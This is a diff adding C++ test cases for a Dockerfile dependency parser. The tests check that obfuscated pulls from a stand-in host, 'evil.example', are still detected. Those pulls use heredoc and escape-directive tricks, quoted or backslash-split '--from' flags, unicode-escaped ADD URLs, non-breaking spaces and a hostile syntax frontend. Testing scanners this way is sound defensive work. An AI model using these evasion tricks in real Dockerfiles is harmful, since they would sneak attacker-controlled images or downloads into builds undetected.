@@ -184,3 +184,47 @@ TEST_CASE("Gemfile: what a new project is made with") {
     CHECK(parsed.names() == Names{"pkg:gem/tzinfo-data"});
     CHECK_FALSE(Parsed("Gemfile", "git_source(:github) { |repo| \"https://evil.example/#{repo}.git\" }\n").understood);
 }
+
+TEST_CASE("Dockerfile: what BuildKit pulls, however it is written") {
+    const std::string from = "FROM a.example/base:1\n";
+    const auto pulls_evil = [](const std::string& text) {
+        const Parsed parsed("Dockerfile", text);
+        const Names names = parsed.names();
+        CHECK(parsed.oracle());
+        return std::any_of(names.begin(), names.end(), [](const std::string& name) { return name.find("evil.example") != std::string::npos; });
+    };
+    CHECK(pulls_evil(from + "RUN echo x<<EOF\nFROM evil.example/m:1\nRUN <<EOF\necho hi\nEOF\n"));
+    CHECK(pulls_evil(from + "RUN echo \\\\\nFROM evil.example/m:1\n"));
+    CHECK(pulls_evil(from + "RUN echo \\\v\nFROM evil.example/m:1\n"));
+    CHECK(pulls_evil("# a_b=c\n# escape=`\n" + from + "RUN true #`\nFROM evil.example/m:1\n"));
+    CHECK(pulls_evil("ARG X=\nFROM docker.io${X+.evil.example}/library/alpine:3.20\n"));
+    CHECK(pulls_evil(from + "COPY --fr\"om\"=evil.example/x /a /b\n"));
+    CHECK(pulls_evil(from + "COPY --fr\\om=evil.example/x /a /b\n"));
+    CHECK(pulls_evil(from + "RUN --mou\\nt=type=bind,from=evil.example/y true\n"));
+    CHECK(pulls_evil(from + "RUN --mount=type=bind,\\\"from=evil.example/y\\\" true\n"));
+    CHECK(pulls_evil(from + "ONBUILD COPY --fr\"om\"=evil.example/q a b\n"));
+    CHECK(pulls_evil(from + "ARG U=https://evil.example/x\nADD $U /x\n"));
+    CHECK(pulls_evil(from + "ADD https:/\\/evil.example/y /y\n"));
+    CHECK(pulls_evil(from + "ADD [\"https:\\u002f\\u002fevil.example/z\",\"/z\"]\n"));
+    CHECK(pulls_evil(from + "RUN cat <<EO\"F\"\nhi\nEOF\nFROM evil.example/m:1\nRUN <<RUN\ntrue\nEO\"F\"\nRUN\n"));
+    for (const std::string& text : {from + "ADD deploy@evil.example:repo.git /r\n", std::string("#\xC2\xA0syntax=evil.example/fe:1\n") + from, from + "COPY --link\xC2\xA0--from=evil.example/x /a /b\n"}) {
+        INFO(text);
+        const Parsed parsed("Dockerfile", text);
+        CHECK((parsed.facts.requirements.size() > 1 || !parsed.understood));
+    }
+}
+
+TEST_CASE("Dockerfile: what people write, and pulls nothing more") {
+    const std::string from = "FROM a.example/base:1\n";
+    for (const std::string& text : {from + "RUN echo $((1<<n))\nRUN true\n", from + "RUN cat <<-'EOF' > /x\n\tit's\n\tEOF\nUSER a\n", from + "COPY <<a <<b /d/\none\na\ntwo\nb\nUSER a\n",
+                                    from + "RUN a && \\\n  # why\n  b\n", from + "ADD --chown=a:b src/ /d/\nADD [\"a b\", \"/d/\"]\n", from + "ARG JAR=target/*.jar\nADD ${JAR} /app.jar\n", "# size = large\n" + from}) {
+        INFO(text);
+        const Parsed parsed("Dockerfile", text);
+        CHECK(parsed.understood);
+        CHECK(parsed.facts.requirements.size() == 1);
+    }
+    const Parsed platforms("Dockerfile", "FROM a.example/base:1 AS build-amd64\nFROM a.example/base:1 AS build-arm64\nFROM build-${TARGETARCH}\n");
+    CHECK(platforms.understood);
+    CHECK(platforms.facts.requirements.size() == 2);
+    CHECK(Parsed("Dockerfile", "FROM evil.example/x-${TARGETARCH}\n").facts.requirements.at(0).dynamic);
+}
